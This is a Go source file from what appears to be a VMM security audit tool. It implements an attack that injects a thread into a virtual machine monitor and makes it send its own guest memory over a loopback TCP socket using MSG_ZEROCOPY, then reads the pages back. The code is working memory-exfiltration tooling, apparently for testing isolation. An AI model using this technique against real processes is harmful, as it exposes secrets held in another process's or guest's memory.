package audit

import (
	"context"
	"errors"
	"fmt"
	"runtime"

	"golang.org/x/sys/unix"

	"offmap/audit/inject"
	"offmap/internal/process/sandbox"
)

// zerocopy has the network stack read guest RAM: a send with MSG_ZEROCOPY hands it
// the pages themselves. The loopback device copies, but from those pages.
var zerocopy = Avenue{
	Name: "msg-zerocopy", Attack: attackZerocopy,
	About: "has the VMM send(2) its memory with MSG_ZEROCOPY over a TCP connection to the attacker",
}

// zerocopySize is how many bytes are sent at a time: few, since the pages count
// against RLIMIT_MEMLOCK. The sockets' buffers have room for them, because nobody
// reads before all is sent.
const (
	zerocopySize   = 256 << 10
	zerocopyBuffer = 4 * zerocopySize
)

func attackZerocopy(ctx context.Context, t Target) (Finding, error) {
	near, far, err := loopback()
	if err != nil {
		return Finding{}, err
	}
	defer unix.Close(near)
	defer unix.Close(far)
	return t.inject(ctx, func(th *inject.Thread) (Finding, error) {
		theirs, err := th.Give(far)
		if err != nil {
			return Finding{}, err
		}
		return t.sweep(ctx, zerocopySize, func(p []byte, addr uint64) (int, error) {
			for got := 0; got < len(p); {
				n, err := th.Call(unix.SYS_SENDTO, uint64(theirs), addr+uint64(got), uint64(len(p)-got), unix.MSG_ZEROCOPY|unix.MSG_NOSIGNAL, 0, 0)
				if err != nil {
					return got, err
				}
				if err := receive(near, p[got:got+int(n)]); err != nil {
					return got, err
				}
				got += int(n)
				if err := acknowledge(far); err != nil {
					return got, err
				}
			}
			return len(p), nil
		})
	})
}

// loopback connects two TCP sockets, in a network namespace of their own, so that
// the host's network doesn't matter.
func loopback() (near, far int, err error) {
	done := make(chan error)
	go func() {
		runtime.LockOSThread()
		back, err := unix.Open("/proc/thread-self/ns/net", unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			runtime.UnlockOSThread()
			done <- fmt.Errorf("open /proc/thread-self/ns/net: %w", err)
			return
		}
		defer unix.Close(back)
		if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
			runtime.UnlockOSThread()
			done <- unavailable("unshare of the network namespace: %v (run as root)", sandbox.Suspect("unshare", err))
			return
		}
		near, far, err = connected()
		// A thread that can't come back ends with this goroutine.
		if backErr := unix.Setns(back, unix.CLONE_NEWNET); backErr != nil {
			err = errors.Join(err, fmt.Errorf("setns back: %w", backErr))
		} else {
			runtime.UnlockOSThread()
		}
		done <- err
	}()
	err = <-done
	return near, far, err
}

// connected brings the loopback device up and connects two sockets over it.
func connected() (near, far int, err error) {
	var open []int
	defer func() {
		if err != nil {
			near, far = -1, -1
		}
		for _, fd := range open {
			if fd != near && fd != far {
				unix.Close(fd)
			}
		}
	}()
	socket := func() (int, error) {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return -1, unavailable("socket: %v", err)
		}
		open = append(open, fd)
		return fd, nil
	}
	listener, err := socket()
	if err != nil {
		return -1, -1, err
	}
	lo, err := unix.NewIfreq("lo")
	if err != nil {
		return -1, -1, err
	}
	lo.SetUint16(unix.IFF_UP)
	if err := unix.IoctlIfreq(listener, unix.SIOCSIFFLAGS, lo); err != nil {
		return -1, -1, fmt.Errorf("ioctl SIOCSIFFLAGS on lo: %w", err)
	}
	if err := unix.Bind(listener, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return -1, -1, fmt.Errorf("bind to 127.0.0.1: %w", err)
	}
	if err := unix.Listen(listener, 1); err != nil {
		return -1, -1, fmt.Errorf("listen: %w", err)
	}
	address, err := unix.Getsockname(listener)
	if err != nil {
		return -1, -1, fmt.Errorf("getsockname: %w", err)
	}
	if far, err = socket(); err != nil {
		return -1, -1, err
	}
	for fd, option := range map[int]int{listener: unix.SO_RCVBUFFORCE, far: unix.SO_SNDBUFFORCE} {
		if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, option, zerocopyBuffer); err != nil {
			return -1, -1, fmt.Errorf("setsockopt of a socket's buffer to %d bytes: %w", zerocopyBuffer, err)
		}
	}
	if err := unix.SetsockoptInt(far, unix.SOL_SOCKET, unix.SO_ZEROCOPY, 1); err != nil {
		return -1, -1, unavailable("setsockopt SO_ZEROCOPY: %v", err)
	}
	if err := unix.Connect(far, address); err != nil {
		return -1, -1, fmt.Errorf("connect to 127.0.0.1: %w", err)
	}
	if near, _, err = unix.Accept4(listener, unix.SOCK_CLOEXEC); err != nil {
		return -1, -1, fmt.Errorf("accept: %w", err)
	}
	open = append(open, near)
	return near, far, unix.SetsockoptTimeval(near, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 10})
}

// receive fills p.
func receive(fd int, p []byte) error {
	for len(p) > 0 {
		n, err := unix.Read(fd, p)
		switch {
		case err == unix.EINTR:
		case err != nil:
			return fmt.Errorf("read of what the VMM has sent: %w", err)
		case n == 0:
			return errors.New("the connection to the VMM is closed")
		default:
			p = p[n:]
		}
	}
	return nil
}

// acknowledge reads the notifications that the kernel is done with sent pages: they
// fill the socket's buffer (Documentation/networking/msg_zerocopy.rst).
func acknowledge(fd int) error {
	var control [128]byte
	for {
		_, _, _, _, err := unix.Recvmsg(fd, nil, control[:], unix.MSG_ERRQUEUE|unix.MSG_DONTWAIT)
		switch err {
		case nil, unix.EINTR:
		case unix.EAGAIN:
			return nil
		default:
			return fmt.Errorf("recvmsg of zerocopy notifications: %w", err)
		}
	}
}
